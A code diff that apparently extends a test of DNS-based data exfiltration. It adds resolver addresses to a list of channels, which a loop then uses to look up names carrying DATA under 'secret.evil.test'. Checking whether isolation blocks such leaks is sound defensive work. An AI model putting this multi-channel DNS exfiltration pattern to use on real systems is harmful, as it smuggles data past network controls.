@@ -170,7 +170,8 @@ WAYS = (look_up, lambda name: datagram("198.18.0.1", name), lambda name: datagra
         lambda name: datagram("192.0.2.53", name), lambda name: datagram("198.18.0.1", name, 16),
         lambda name: datagram("127.0.0.1", name, 10), lambda name: stream("198.18.0.1", name),
         lambda name: stream("127.0.0.1", name), connect, absolute, socks, inside,
-        lambda name: look_up("public.test." + name))
+        lambda name: look_up("public.test." + name), lambda name: datagram("127.18.0.1", name),
+        lambda name: datagram("127.18.0.1", name, 16), lambda name: stream("127.18.0.1", name))
 for at, way in enumerate(WAYS):
     try:
         way(f"{DATA}{at}.secret.evil.test")
